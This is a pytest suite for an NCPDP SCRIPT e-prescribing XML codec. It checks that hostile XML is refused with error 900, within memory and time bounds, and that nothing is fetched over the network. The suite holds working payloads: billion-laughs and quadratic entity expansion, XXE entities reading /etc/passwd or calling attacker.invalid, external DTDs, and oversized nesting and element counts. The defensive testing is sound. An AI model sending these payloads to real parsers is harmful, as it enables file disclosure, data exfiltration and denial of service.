"""Hostile SCRIPT XML: every payload is refused with a ParseError before anything is
expanded, fetched or built whole, answered with a SCRIPT Error 900 (by the codec and
through a real channel, which keeps taking sound messages after it), and fuzzed
mutations of sound messages never raise anything but ParseError.

Bounded by construction (engine/formats/ncpdp/xml.py): no DTD is read, so no entity is
ever declared; depth, element count and attribute length are checked as each element
starts, so a million elements or a 100,000-deep nesting stop at the first excess. Each
parse runs under tests/unit/test_hl7v2_fuzz.py's wall-clock limit, and memory is
measured with tracemalloc. Legal XML constructs (comments, processing instructions,
CDATA) are read, not refused: they never become values or reach the reply.
"""

from __future__ import annotations

import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine import registry
from engine.errors import ParseError
from engine.formats.ncpdp import NcpdpCodec
from engine.formats.ncpdp.message import ScriptMessage
from engine.formats.ncpdp.xml import MAX_ATTRIBUTES, MAX_ELEMENTS, parse_xml
from engine.message import MessageStatus, Outcome, Problem, Verdict
from engine.testbench import acknowledgement
from tests.unit.test_channel import Env, meta
from tests.unit.test_hl7v2_fuzz import FUZZ, time_limit

codec = NcpdpCodec()
GOOD = (Path(__file__).parents[1] / "fixtures/ncpdp/newrx_default_ns.xml").read_bytes()
DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'
LAUGH = b"lol" * 3


def _dtd(internal: bytes, body: bytes = b"&x;") -> bytes:
    """A sound NewRx whose patient's last name is `body`, after a DOCTYPE `internal`."""
    return DECL + b"<!DOCTYPE Message [" + internal + b"]>\n" + GOOD[len(DECL):].replace(
        b"<LastName>Lindqvist</LastName>", b"<LastName>" + body + b"</LastName>")


BILLION_LAUGHS = _dtd(b'<!ENTITY a "' + LAUGH + b'">' + b"".join(
    b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&%s;" % bytes([97 + i])) * 10)
    for i in range(9)) + b'<!ENTITY x "&j;">')
QUADRATIC = _dtd(b'<!ENTITY q "' + b"Q" * 50_000 + b'">', b"&q;" * 50_000)

HOSTILE: dict[str, bytes] = {
    "billion_laughs": BILLION_LAUGHS,
    "quadratic_blowup": QUADRATIC,
    "xxe_file": _dtd(b'<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "xxe_http": _dtd(b'<!ENTITY x SYSTEM "http://attacker.invalid/steal">'),
    "external_dtd": DECL + b'<!DOCTYPE Message SYSTEM "http://attacker.invalid/x.dtd">\n'
                    + GOOD[len(DECL):],
    "parameter_entities": _dtd(b'<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd">'
                               b'%p;<!ENTITY % q "<!ENTITY x \'boom\'>">%q;'),
    "undeclared_entity": GOOD.replace(b"Lindqvist", b"&x;"),
    "nesting_100000_deep": b"<Message>" + b"<N>" * 100_000 + b"</N>" * 100_000
                           + b"</Message>",
    "huge_attribute": GOOD.replace(b'<To Qualifier="P">',
                                   b'<To Qualifier="' + b"P" * 5_000_000 + b'">'),
    "a_million_elements": b"<Message><Header/><Body><NewRx>" + b"<Note/>" * 1_000_000
                          + b"</NewRx></Body></Message>",
    "latin1_bytes_declared_utf8": GOOD.replace(b"Lindqvist", "Lindqvíst".encode("latin-1")),
    "utf16_declared_utf8_bytes": GOOD.replace(b'encoding="UTF-8"', b'encoding="UTF-16"'),
    "unknown_encoding": GOOD.replace(b'encoding="UTF-8"', b'encoding="x-made-up"'),
    "multibyte_encoding": GOOD.replace(b'encoding="UTF-8"', b'encoding="Shift_JIS"'),
    "bom_then_utf16_declaration": b"\xef\xbb\xbf" + GOOD.replace(b'encoding="UTF-8"',
                                                                 b'encoding="UTF-16"'),
    "utf16_bom_on_utf8_bytes": b"\xff\xfe" + GOOD,
    "second_root": GOOD + b"<Message><Header/><Body><Status/></Body></Message>",
    "text_after_root": GOOD + b"trailing",
    "cdata_close_outside_cdata": GOOD.replace(b"Lindqvist", b"Lind]]>qvist"),
    "cdata_closed_twice": GOOD.replace(b"Lindqvist", b"<![CDATA[Lind]]>]]>"),
    "cdata_unclosed": GOOD.replace(b"Lindqvist", b"<![CDATA[Lindqvist"),
    "comment_with_double_dash": GOOD.replace(b"<Header>", b"<Header><!-- a -- b -->"),
    "comment_unclosed": GOOD.replace(b"<Header>", b"<Header><!-- never closed"),
    "pi_named_xml_inside": GOOD.replace(b"<Header>", b'<Header><?xml version="1.0"?>'),
    "declaration_not_first": b"\n  " + GOOD,
    "not_a_message_root": GOOD.replace(b"<Message ", b"<Messages ").replace(
        b"</Message>", b"</Messages>"),
    "empty": b"",
    "nul_bytes": GOOD.replace(b"Lindqvist", b"Lind\x00qvist"),
}


def _answer(raw: bytes) -> ScriptMessage:
    """The codec's answer to `raw` as a channel would give it, read back as SCRIPT."""
    try:
        parsed = codec.parse(raw)
        problems = tuple(codec.validate(parsed, "strict"))
        outcome = Outcome(Verdict.REJECTED if problems else Verdict.ACCEPTED, problems)
    except ParseError as exc:
        parsed, outcome = None, Outcome(Verdict.REJECTED, (Problem(str(exc), code="900"),))
    root, namespace = parse_xml(codec.reply(raw, parsed, outcome))
    return ScriptMessage(root, namespace)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_small_and_fast(name):
    raw = HOSTILE[name]
    tracemalloc.start()
    try:
        with time_limit(), pytest.raises(ParseError) as refused:
            codec.parse(raw)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert refused.value.code == "900"
    # a few copies of the input at most (a huge attribute is decoded once before it is
    # refused), never the expansion or the whole tree
    assert peak < 8_000_000 + 5 * len(raw)
    assert b"root:" not in str(refused.value).encode()  # /etc/passwd never read


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_answered_with_error_900(name):
    with time_limit():
        answer = _answer(HOSTILE[name])
    assert answer.message_type == "Error"
    assert answer.value("Body/Error/Code") == "900"
    description = answer.value("Body/Error/Description")
    assert description and LAUGH not in description.encode() and "root:" not in description


# Payloads whose prolog (a DOCTYPE before the root) once hid them from detection:
# `conduit parse` and `conduit ack` took them for HL7v2 and answered an HL7 ACK.
DOCTYPED = ["billion_laughs", "quadratic_blowup", "xxe_file", "xxe_http", "external_dtd",
            "parameter_entities"]


@pytest.mark.parametrize("name", DOCTYPED)
def test_conduit_ack_answers_a_hostile_prolog_with_a_script_error(name):
    raw = HOSTILE[name]
    assert registry.detect(raw) == "ncpdp"
    with time_limit():
        answer = ScriptMessage(*parse_xml(acknowledgement(raw)))
    assert (answer.message_type, answer.value("Body/Error/Code")) == ("Error", "900")
    assert "DTDs, entities and external references" in answer.value("Body/Error/Description")
    assert answer.value("Header/To") == "HARBORSIDEEHR"  # addressed back to the sender


def test_a_sound_message_in_utf16_or_after_a_processing_instruction_is_detected():
    """Any XML prolog the parser reads, and UTF-16 with or without its byte-order mark,
    is SCRIPT to `conduit parse` and `ack` too, not "unknown"."""
    utf16 = GOOD.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    styles = {"utf16_bom": utf16.encode("utf-16"), "utf16_le": utf16.encode("utf-16-le"),
              "utf16_be": utf16.encode("utf-16-be"),
              "stylesheet_pi": GOOD.replace(DECL, DECL + b'<?xml-stylesheet href="r.xsl"?>\n'
                                            b"<!-- exported -->\n")}
    for name, raw in styles.items():
        assert registry.detect(raw) == "ncpdp", name
        answer = ScriptMessage(*parse_xml(acknowledgement(raw)))
        assert answer.value("Body/Status/Code") == "000", name
        assert answer.value("Header/RelatesToMessageID") == (
            "a3f1c2d4e5b6478899aa0011bb22cc33"), name


def test_what_is_not_well_formed_is_said_in_the_error():
    """The parser's reason, a fixed phrase, tells the sender what to fix; never a value."""
    reasons = {
        GOOD.replace(b"Lindqvist", "Lindqvíst".encode("latin-1")):
            "a byte that is not in the declared encoding",
        b"\n  " + GOOD: "XML or text declaration not at start of entity",
        GOOD[:-40]: "unclosed token",
        GOOD + b"trailing": "junk after document element",
    }
    for raw, reason in reasons.items():
        with pytest.raises(ParseError) as refused:
            codec.parse(raw)
        assert reason in str(refused.value)
        assert "Lindqv" not in str(refused.value)


def test_an_element_with_too_many_attributes_is_refused_at_that_element():
    """(The parser gathers one start tag's attributes before any check can run, so this
    one costs memory in proportion to the tag; the request size bounds it.)"""
    raw = GOOD.replace(b"<Header>", b"<Header " + b" ".join(
        b'a%d="1"' % i for i in range(50_000)) + b">")
    with time_limit(), pytest.raises(ParseError, match=f"more than {MAX_ATTRIBUTES} attr"):
        codec.parse(raw)


def test_the_entity_never_expands_and_nothing_is_fetched(monkeypatch):
    import socket
    import urllib.request

    def no_network(*args, **kwargs):
        raise AssertionError("the parser reached for the network")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(urllib.request, "urlopen", no_network)
    for name in ("xxe_http", "external_dtd", "parameter_entities", "billion_laughs"):
        with pytest.raises(ParseError, match="DTDs, entities and external references"):
            codec.parse(HOSTILE[name])


def test_a_million_elements_stop_at_the_first_excess():
    with time_limit(), pytest.raises(ParseError, match=f"more than {MAX_ELEMENTS}"):
        codec.parse(HOSTILE["a_million_elements"])


def test_legal_constructs_are_read_not_obeyed():
    """Comments and processing instructions are dropped; CDATA is read as plain text, so
    markup inside it is never markup; a BOM and a declared, true encoding are read."""
    raw = (GOOD.replace(b"<Header>", b"<Header><!-- <MessageID>forged</MessageID> -->"
                        b'<?xml-stylesheet href="http://attacker.invalid/x.xsl"?>')
           .replace(b"Lindqvist", b"<![CDATA[Lind<b>&amp;]]]]><![CDATA[>qvist]]>"))
    parsed = codec.parse(raw)
    assert parsed.control_id == "a3f1c2d4e5b6478899aa0011bb22cc33"
    assert parsed.body.value("NewRx/Patient/HumanPatient/Name/LastName") == (
        "Lind<b>&amp;]]>qvist")
    assert codec.parse(b"\xef\xbb\xbf" + GOOD).message_type == "NewRx"
    latin1 = GOOD.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"').replace(
        b"Lindqvist", "Lindqvíst".encode("latin-1"))
    assert codec.parse(latin1).body.value(
        "NewRx/Patient/HumanPatient/Name/LastName") == "Lindqvíst"
    utf16 = GOOD.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert codec.parse(utf16).control_id == "a3f1c2d4e5b6478899aa0011bb22cc33"


def _channel(env: Env):
    return env.channel(None, NcpdpCodec(), format="ncpdp", validation="strict",
                       source={"type": "channel", "inbox": "erx-in"})


@pytest.mark.parametrize("name", ["billion_laughs", "xxe_file", "external_dtd",
                                  "nesting_100000_deep", "a_million_elements",
                                  "second_root", "unknown_encoding", "huge_attribute"])
async def test_a_channel_answers_hostile_xml_with_error_900_and_keeps_going(
        channel_env, name):
    channel = _channel(channel_env)
    raw = HOSTILE[name]
    with time_limit(5.0):
        receipt = await channel.deliver(raw, meta(raw, "channel"))
    assert receipt.status is MessageStatus.REJECTED
    root, namespace = parse_xml(receipt.replies[0])
    answer = ScriptMessage(root, namespace)
    assert answer.message_type == "Error" and answer.value("Body/Error/Code") == "900"
    assert LAUGH not in receipt.replies[0] and b"root:" not in receipt.replies[0]
    assert channel_env.queued() == 0
    sound = await channel.deliver(GOOD, meta(GOOD, "channel"))
    assert sound.status is MessageStatus.ACCEPTED
    root, namespace = parse_xml(sound.replies[0])
    status = ScriptMessage(root, namespace)
    assert status.message_type == "Status" and status.value("Body/Status/Code") == "000"
    assert status.value("Header/RelatesToMessageID") == "a3f1c2d4e5b6478899aa0011bb22cc33"


# ---- fuzzing ---------------------------------------------------------------------------

SEEDS = [GOOD, HOSTILE["billion_laughs"][:4000],
         GOOD.replace(b"<Message xmlns=", b"<script:Message xmlns:script=").replace(
             b"</Message>", b"</script:Message>")]
INTERESTING = b"<>/&;![]?-=\"' \x00\xff\xc3\xa9\xef\xbb\xbfCDATAENTITYDOCTYPE%:"


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    """A seed with a few bytes or fragments inserted, deleted, replaced or cut."""
    data = bytearray(draw(st.sampled_from(SEEDS)))
    fragments = [b"<!DOCTYPE x>", b"&x;", b"<![CDATA[", b"]]>", b"<!--", b"-->", b"<?pi ?>",
                 b"</Message>", b"<Message>", b"&#0;", b"&#x10FFFF;", b"&amp;", b"xmlns:a="]
    for _ in range(draw(st.integers(0, 8))):
        pos = draw(st.integers(0, len(data)))
        op = draw(st.sampled_from(["insert", "fragment", "delete", "replace", "cut"]))
        if op == "insert":
            data.insert(pos, draw(st.sampled_from(INTERESTING) | st.integers(0, 255)))
        elif op == "fragment":
            data[pos:pos] = draw(st.sampled_from(fragments))
        elif data and op == "delete":
            del data[min(pos, len(data) - 1):min(pos, len(data) - 1) + draw(st.integers(1, 40))]
        elif data and op == "replace":
            data[min(pos, len(data) - 1)] = draw(st.integers(0, 255))
        elif op == "cut":
            del data[pos:]
    return bytes(data)


@FUZZ
@given(st.one_of(mutated(), mutated(), st.binary(max_size=400)))
def test_mutated_messages_raise_nothing_but_parse_error(raw):
    with time_limit():
        try:
            parsed = codec.parse(raw)
        except ParseError:
            return
        codec.validate(parsed, "strict")
        assert parsed.message_type


@FUZZ
@given(mutated(), st.sampled_from(list(Verdict)))
def test_the_reply_to_anything_is_readable_script(raw, verdict):
    with time_limit():
        try:
            parsed = codec.parse(raw)
        except ParseError:
            parsed = None
        problems = () if verdict is Verdict.ACCEPTED else (Problem("bad <&> value"),)
        answer = codec.reply(raw, parsed, Outcome(verdict, problems))
        if not answer:  # a Status, Error or Verify is never answered
            assert parsed is not None and parsed.message_type in ("Status", "Error", "Verify")
            return
        root, namespace = parse_xml(answer)
        assert ScriptMessage(root, namespace).message_type in ("Status", "Error")
